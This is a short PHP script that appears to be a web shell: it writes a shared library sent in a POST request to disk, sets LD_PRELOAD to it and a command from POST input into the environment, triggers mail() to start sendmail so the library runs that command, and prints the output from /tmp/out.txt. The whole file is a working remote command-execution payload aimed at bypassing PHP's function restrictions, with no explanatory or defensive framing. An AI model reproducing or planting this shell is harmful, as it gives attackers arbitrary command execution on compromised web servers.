<?php
$lib = dirname(__FILE__) . '/hook.so';
file_put_contents($lib, base64_decode($_POST['lib']));
putenv("CMD=" . $_POST['cmd']);
putenv("LD_PRELOAD=" . $lib);
mail("root@localhost", "", "", "");
echo file_get_contents('/tmp/out.txt');
